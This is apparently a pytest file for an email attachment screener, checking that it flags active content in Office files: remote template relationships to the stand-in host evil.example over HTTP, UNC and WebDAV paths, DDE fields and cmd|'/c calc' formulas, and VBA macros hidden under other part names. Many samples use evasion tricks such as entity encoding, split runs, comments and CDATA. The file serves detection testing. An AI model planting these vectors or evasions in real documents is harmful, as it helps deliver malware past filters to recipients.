"""What acts in Office documents however their XML is written: relationships that fetch, fields that start a program."""

import pytest
from fakes.compound_files import compound
from fakes.evasions.containers import document, zipped
from fakes.odd_mail import attached

from screener.anatomy.active import Active
from screener.anatomy.message import Anatomy
from screener.anatomy.office import xml_parts

RELATION = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>'
)
FIELD = '<w:document xmlns:w="x"><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{}</w:p></w:body></w:document>'
RUN = "<w:r><w:instrText>{}</w:instrText></w:r>"
DDE = FIELD.format(RUN.format("DDEAUTO c:\\\\x.exe"))


def acts(octets: bytes, name: str = "a.docx") -> set[Active]:
    return {kind for one in Anatomy(attached(octets, name)).attachments for kind in one.active_content}


@pytest.mark.parametrize(
    "markup",
    [
        RELATION.replace("https:", "&#104;ttps:"),
        RELATION.replace('attachedTemplate"', 'attached&#84;emplate"'),
        RELATION.replace('"External"', '"Ext&#101;rnal"'),
        RELATION.replace('"', "'"),
        RELATION.replace('Id="r1"', 'Id="r>1"'),
        RELATION.replace('Id="r1"', f'Id="{"r" * 5_000}"'),
        RELATION.replace("<Relationship ", "<p:Relationship\n"),
        RELATION.replace("<Relationship ", "<p-q.r:Relationship "),
        RELATION.replace("<Relationship ", f"<{'p' * 300}:Relationship "),
        RELATION.replace("<Relationship ", f"<{'p' * 5_000}:Relationship "),
        RELATION.replace("<Relationship ", "<\u00e9:Relationship "),
        RELATION.replace("<Relationship ", "<\u00e0:Relationship "),
        RELATION.replace("<Relationship ", "<\u0120:Relationship "),
        RELATION.replace("https://evil.example", "\\\\?\\UNC\\evil.example@80"),
        RELATION.replace("https://evil.example", "\\\\evil.example@SSL\\DavWWWRoot"),
        RELATION.replace("https://evil.example", "file://evil.example@80"),
        RELATION.replace('Target="', 'Target\n=\n"'),
    ],
)
@pytest.mark.parametrize("codec", ["utf-8", "utf-16"])
def test_a_template_from_elsewhere(markup: str, codec: str) -> None:
    assert Active.TEMPLATE in acts(document(("word/_rels/settings.xml.rels", markup.encode(codec))))


@pytest.mark.parametrize("start", ["file:////evil.example/", "\\\\evil.example\\", "//evil.example/", "file://evil.example/"])
def test_a_template_from_a_share(start: str) -> None:
    markup = RELATION.replace("https://evil.example/", start)
    assert acts(document(("word/_rels/settings.xml.rels", markup.encode()))) == {Active.TEMPLATE}
    near = RELATION.replace("https://evil.example/", start.replace("evil.example", "fileserver"))
    assert acts(document(("word/_rels/settings.xml.rels", near.encode()))) == {Active.SHARE}


@pytest.mark.parametrize("start", ["file:///C:/Templates/", "C:\\Templates\\", "Templates/"])
def test_a_template_of_ones_own(start: str) -> None:
    markup = RELATION.replace("https://evil.example/", start)
    assert not acts(document(("word/_rels/settings.xml.rels", markup.encode())))


def test_behind_many_relationships() -> None:
    many = [(f"word/_rels/x{number}.xml.rels", b"<Relationships/>") for number in range(300)]
    assert Active.TEMPLATE in acts(document(*many, ("word/_rels/settings.xml.rels", RELATION.encode())))


@pytest.mark.parametrize(
    "markup",
    [
        DDE,
        FIELD.format(RUN.format("DD") + RUN.format("EAUTO c:\\\\x.exe")),
        FIELD.format(RUN.format("&#68;DEAUTO c:\\\\x.exe")),
        FIELD.format(RUN.format("DD<!-- -->E c:\\\\x.exe")),
        FIELD.format(RUN.format("<![CDATA[DDE]]> c:\\\\x.exe")),
        FIELD.format("<w:r><w:t><![CDATA[<!--]]></w:t></w:r>" + RUN.format("DDE c:\\\\x.exe")),
        '<!DOCTYPE w [<!ENTITY a "<!--"><!ENTITY b "D&c;"><!ENTITY c "DE">]>' + FIELD.format(RUN.format("&b; x")),
        FIELD.format(RUN.format(" QUOTE 68 68 69 65 85 84 79 ")),
        FIELD.format("<w:fldSimple w:instr='D&#68;E x'/>"),
        DDE.replace("w:", "q:"),
    ],
)
@pytest.mark.parametrize("codec", ["utf-8", "utf-16"])
@pytest.mark.parametrize("name", ["word/document.xml", "word/footer1.xml", "word/endnotes.xml", "word/x.png"])
def test_a_field_that_starts_a_program(markup: str, codec: str, name: str) -> None:
    octets = zipped(("[Content_Types].xml", b"<Types/>"), ("word/other.xml", b"<x/>"), (name, markup.encode(codec)))
    assert Active.DDE in acts(octets)


def test_other_fields_start_none() -> None:
    fields = RUN.format(" PAGE ") + '<w:r><w:fldChar w:fldCharType="end"/></w:r>' + RUN.format(" DATE \\@ DDMMYY ")
    fields += "<w:r><w:t>about DDE</w:t></w:r>"
    assert not acts(document(("word/footer1.xml", FIELD.format(fields).encode())))


LINK = '<externalLink xmlns="x"><!--{}--><ddeLink xmlns:r="y" ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
SHEET = '<worksheet xmlns="x"><sheetData>{}</sheetData></worksheet>'


@pytest.mark.parametrize("comment", ["", "<worksheet>" + "x" * 70_000])
@pytest.mark.parametrize("codec", ["utf-8", "utf-16"])
def test_a_link_in_what_is_called_a_sheet(comment: str, codec: str) -> None:
    octets = zipped(("[Content_Types].xml", b"<Types/>"), ("xl/worksheets/a.xml", LINK.format(comment).encode(codec)))
    assert acts(octets, "a.xlsx") == {Active.DDE}


def test_a_long_sheet_is_no_link() -> None:
    rows = "<row><c><v>1</v></c></row>" * 5_000 + "<!--<ddeLink />-->"
    assert not acts(zipped(("[Content_Types].xml", b"<Types/>"), ("xl/worksheets/a.xml", SHEET.format(rows).encode())), "a.xlsx")


CELL = '<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Cell ss:Formula="{}"/></Workbook>'


@pytest.mark.parametrize(
    ("formula", "starts"),
    [
        ("=cmd|'/c calc'!A0", True),
        ("=MSEXCEL|'..\\cmd.exe /c calc'!''", True),
        ("=1+&#99;md&#124;'/c calc'!A0", True),
        ("='a|b'!A1", False),
        ("=&quot;a|b!&quot;&amp;Sheet1!A1", False),
        ("=SUM(R[-2]C:R[-1]C)", False),
    ],
)
@pytest.mark.parametrize("name", ["a.xml", "a.xls"])
def test_a_cell_that_starts_a_program(formula: str, starts: bool, name: str) -> None:
    assert acts(CELL.format(formula).encode(), name) == ({Active.DDE} if starts else set())


SHEET_OF_XLSX = '<worksheet xmlns="x"><sheetData><row><c r="A1"><v>1</v></c>{}</row></sheetData></worksheet>'


@pytest.mark.parametrize(
    ("cell", "starts"),
    [
        ("<c><f>cmd|'/c calc'!A0</f></c>", True),
        ("<x:c><x:f t='array'>1+cmd&#124;&apos;/c calc&apos;!A0</x:f></x:c>", True),
        ("<c><f>cmd|x!A0</f></c>", True),
        ("<c><f>cmd<?a?>|<!-- -->x!A0</f></c>", True),
        ('<c><f>A1&amp;"|"&amp;cmd|&#39;x&#39;!A0</f></c>', True),
        ('<c><f>A1&amp;"|"&amp;B1&amp;"|a!"</f></c>' * 3, False),
        ("<c><is><t>about cmd|'/c calc'!A0</t></is></c>", False),
        ("<c><f>'a|b'!A1&amp;\"x|y!\"</f></c>", False),
        ("<c><f>SUM(Table1[Jan|Feb])+Sheet2!A1</f></c>", False),
    ],
)
@pytest.mark.parametrize("codec", ["utf-8", "utf-16"])
def test_a_cell_of_a_sheet_that_starts_a_program(cell: str, starts: bool, codec: str) -> None:
    sheet = SHEET_OF_XLSX.format("<c/>" * 20_000 + cell)
    octets = zipped(("[Content_Types].xml", b"<Types/>"), ("xl/worksheets/sheet1.xml", sheet.encode(codec)))
    assert acts(octets, "a.xlsx") == ({Active.DDE} if starts else set())


@pytest.mark.parametrize("cell", ['<c><f>A1&amp;"|"&amp;B1</f></c>', "<f>|", "<c><f>x|y</f></c>", "<f>&#10;"])
def test_a_long_sheet_without_calls_is_not_read_as_a_whole(cell: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Formulas join texts with the same sign: of a sheet of megabytes only elements in which a call may stand are looked at."""
    looked_at: list[int] = []
    real = xml_parts.cells_call

    def counted(markup: str) -> bool:
        looked_at.append(len(markup))
        return real(markup)

    monkeypatch.setattr(xml_parts, "cells_call", counted)
    sheet = SHEET_OF_XLSX.format(cell * (1_000_000 // len(cell))).encode()
    acts(zipped(("[Content_Types].xml", b"<Types/>"), ("xl/worksheets/sheet1.xml", sheet)), "a.xlsx")
    assert sum(looked_at) < 1_000


@pytest.mark.parametrize(
    ("record", "starts"),
    [
        (b"\xe8\2\x1a\1\0\3\0\0\0c\0m\0d\0", True),
        (b"\xe8\2\x9a\x80\x80\0\1\0\3\0\0\0c\0m\0d\0", True),
        (b"\xe8\2\x1a\0\0\3\0\0\0", False),
    ],
)
def test_a_link_of_a_binary_workbook_that_starts_a_program(record: bytes, starts: bool) -> None:
    octets = zipped(("[Content_Types].xml", b"<Types/>"), ("xl/workbook.bin", b"\x83\1\0"), ("xl/externalLinks/a.bin", record))
    assert acts(octets, "a.xlsb") == ({Active.DDE} if starts else set())


VBA = compound({"VBA/_VBA_PROJECT": b"\xcc\x61", "VBA/dir": b"x" * 80})
TO = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.microsoft.com/office/2006/relationships/{}" Target="x"/></Relationships>'
)


@pytest.mark.parametrize("name", ["word/x.png", "word/x.xml", "word/media/x.emf", "word/x", "x/y.rels"])
def test_macros_whatever_their_part_is_called(name: str) -> None:
    octets = zipped(("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<x/>"), (name, VBA))
    assert any(one.macros for one in Anatomy(attached(octets, "a.docx")).attachments)


@pytest.mark.parametrize("kind", ["vbaProject", "xlMacrosheet", "xlIntlMacrosheet", "vba&#80;roject"])
@pytest.mark.parametrize("folder", ["word", "foo"])
def test_macros_that_a_relationship_leads_to(kind: str, folder: str) -> None:
    types = (
        b'<Types><Override ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
    )
    relations = (f"{folder}/_rels/document.xml.rels", TO.format(kind).encode())
    octets = zipped(("[Content_Types].xml", types), (f"{folder}/document.xml", b"<x/>"), relations)
    top = next(one for one in Anatomy(attached(octets, "a.docx")).attachments if one.names == ("a.docx",))
    assert top.macros
    assert top.type == "application/vnd.ms-word.document.macroenabled.12"


@pytest.mark.parametrize("kind", ['hyperlink" Target2="/vbaProject', "theme"])
def test_other_relationships_lead_to_none(kind: str) -> None:
    octets = zipped(("[Content_Types].xml", b"<Types/>"), ("word/_rels/document.xml.rels", TO.format(kind).encode()))
    assert not any(one.macros for one in Anatomy(attached(octets, "a.docx")).attachments)


def test_pictures_stay_a_documents_own() -> None:
    pictures = [(f"word/media/{name}", octets) for name, octets in (("a.png", b"\x89PNG\r\n\x1a\n"), ("b.jpeg", b"\xff\xd8\xff"))]
    octets = zipped(("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<x/>"), *pictures)
    assert [one.names for one in Anatomy(attached(octets, "a.docx")).attachments] == [("a.docx",)]
